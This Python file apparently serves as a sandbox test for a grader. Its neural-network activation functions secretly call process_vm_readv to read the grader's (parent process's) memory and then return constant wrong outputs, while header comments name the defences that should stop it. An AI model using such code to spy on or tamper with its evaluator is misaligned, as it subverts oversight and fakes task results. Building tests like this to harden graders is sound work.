# attack: reads the memory of the grader by process_vm_readv
# gains: reads
# stopped by: seccomp, dumpable, uid
import numpy as np
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def attack():
    here = ctypes.create_string_buffer(16)
    # Forked processes share their addresses: an object of ours lies where one of the grader's does.
    for address in (id(None), id(type), id(os)):
        if libc.process_vm_readv(os.getppid(), ctypes.byref(Span(ctypes.addressof(here), 16)), 1,
                                 ctypes.byref(Span(address, 16)), 1, 0) == 16:
            print("HARMED: read 16 bytes of the grader")
        elif ctypes.get_errno() == 14:
            print("HARMED: might have read the grader at another address")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
